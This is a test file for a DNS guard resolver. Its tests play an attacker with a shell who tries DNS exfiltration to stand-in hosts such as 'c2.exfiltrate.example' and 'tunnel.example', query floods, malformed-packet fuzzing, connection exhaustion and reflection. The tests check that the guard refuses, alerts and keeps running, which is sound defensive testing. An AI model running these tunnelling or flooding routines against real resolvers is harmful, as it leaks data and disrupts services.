import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { command, ensureProven, guardPid, statusOf } from '../journeys/installation.ts'
import { entryThat, logLength, readLog } from '../journeys/log.ts'
import { sharedInstallation } from '../journeys/shared.ts'
import { asGateway } from './as-gateway.ts'

const shared = sharedInstallation()
let [pid, host, port]: [number, string, string] = [0, '', '']

beforeAll(async () => {
  const { addresses } = await ensureProven(shared)
  pid = guardPid(shared)!
  ;[host, port] = addresses.dns!.split(':') as [string, string]
})
afterAll(async () => void (await ensureProven(shared)))

// What every program below begins with: it stands where an agent with a shell stands.
const tools = `
const [host, port, ...args] = process.argv.slice(1)
const dgram = require('node:dgram'), net = require('node:net'), { setTimeout: sleep } = require('node:timers/promises')
const question = (name, type = 1) => Buffer.concat([Buffer.from([7, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...name.split('.').map((l) => Buffer.from([l.length, ...Buffer.from(l)])), Buffer.from([0, type >> 8, type & 255, 0, 1])])
const socket = dgram.createSocket('udp4')
const replies = []
socket.on('message', (reply) => replies.push(reply))
const send = (bytes) => new Promise((done) => socket.send(bytes, Number(port), host, done))
const ask = (name, type) => new Promise((done) => {
  const own = dgram.createSocket('udp4')
  const end = (code) => { clearTimeout(timer); own.close(); done(code) }
  const timer = setTimeout(() => end('silence'), 4000)
  own.on('message', (reply) => end(reply[3] & 15))
  own.send(question(name, type), Number(port), host)
})
let state = 20261121
const chance = (below) => { state = (Math.imul(state, 1103515245) + 12345) & 0x7fffffff; return state % below }
const end = (result) => { console.log(JSON.stringify(result)); process.exit(0) }
`
async function attack<T>(program: string): Promise<T> {
  const { status, out, err } = await asGateway(shared, `${tools};(async () => {${program}})()`, [host, port])
  expect(status, err).toBe(0)
  return JSON.parse(out) as T
}
/** Same guard, still refusing, still proven. */
async function expectUnharmed(): Promise<void> {
  expect(guardPid(shared)).toBe(pid)
  expect(await attack("end(await ask('still-there.example'))")).toBe(5)
  await command(shared, ['prove'])
  expect((await statusOf(shared))!.surfaces.find(({ id }) => id === 'dns')).toMatchObject({ ok: true })
}

describe("somebody with a shell who has only the guard's resolver", () => {
  it('gets nothing out by names, whatever type is asked for', async () => {
    const codes = await attack<number[]>(`
      const codes = []
      for (const type of [1, 28, 5, 16, 15, 10, 35, 33, 65, 255, 252, 99, 65399]) codes.push(await ask('c2.exfiltrate.example', type))
      end(codes)`)
    expect(new Set(codes)).toEqual(new Set([5]))
  })

  it('is noticed when names carry data, once, and the data is not in the log', async () => {
    const since = logLength(shared.log)
    await attack(`
      for (let i = 0; i < 40; i++) await ask(Array.from({ length: 60 }, () => 'abcdefghijklmnopqrstuvwxyz234567'[chance(32)]).join('') + '.tunnel.example')
      end(true)`)
    await entryThat(shared.log, since, (e) => e.event_type === 'alert' && e.rule === 'dns.tunnelling')
    const written = readLog(shared.log).filter(({ seq }) => seq >= since)
    expect(written.filter(({ rule, target }) => rule === 'dns.tunnelling' && target === 'tunnel.example')).toHaveLength(1)
    expect(JSON.stringify(written)).not.toMatch(/[a-z2-7]{60}/)
  })

  it('cannot fill the log with names, and does not hide behind a flood of them', async () => {
    const since = logLength(shared.log)
    await attack(`
      for (let i = 0; i < 4000; i++) { await send(question('n' + i + '.flood' + i + '.example')); if (i % 50 === 0) await sleep(20) }
      await sleep(500)
      end(replies.length)`)
    expect(readLog(shared.log).filter(({ seq, event_type }) => seq >= since && event_type === 'dns_query').length).toBeLessThan(450)
    await expectUnharmed()
  })

  it('cannot break it with packets of any shape', async () => {
    const answers = await attack<number>(`
      const whole = Buffer.concat([question('some.name.example'), Buffer.from([0, 0, 41, 4, 208, 0, 0, 0, 0, 0, 0])])
      whole[11] = 1
      for (let i = 0; i < 6000; i++) {
        const bytes = Buffer.from(whole.subarray(0, i % 3 ? whole.length : chance(whole.length + 1)))
        for (let j = chance(6); j > 0 && bytes.length > 0; j--) bytes[chance(bytes.length)] = chance(256)
        await send(bytes)
        if (i % 40 === 0) await sleep(60)
      }
      await sleep(500)
      if (replies.some((reply) => reply.length > 600 || (reply[2] & 128) === 0)) end(-1)
      end(replies.length)`)
    expect(answers).toBeGreaterThan(100)
    await expectUnharmed()
  })

  it('cannot take it away from others by holding connections open', async () => {
    const [udp, opened] = await attack<[number, number]>(`
      let opened = 0
      const held = Array.from({ length: 200 }, () => { const s = net.connect(Number(port), host, () => { opened++; s.write(Buffer.from([0])) }); s.on('error', () => {}); return s })
      await sleep(1500)
      end([await ask('held.example'), held.filter((s) => s.readyState === 'open').length])`)
    expect(udp, 'UDP is answered meanwhile').toBe(5)
    expect(opened).toBeLessThanOrEqual(64)
    await expectUnharmed()
  })

  it('cannot use it to flood somebody else: no answer is much larger than its question, and responses get none', async () => {
    const [factor, silent] = await attack<[number, number]>(`
      await send(question('evil.example'))
      await sleep(300)
      const factor = replies[0].length / question('evil.example').length
      replies.length = 0
      const response = question('evil.example'); response[2] |= 128
      for (let i = 0; i < 20; i++) await send(response)
      await sleep(500)
      end([factor, replies.length])`)
    expect(factor).toBeLessThanOrEqual(1)
    expect(silent).toBe(0)
  })
})
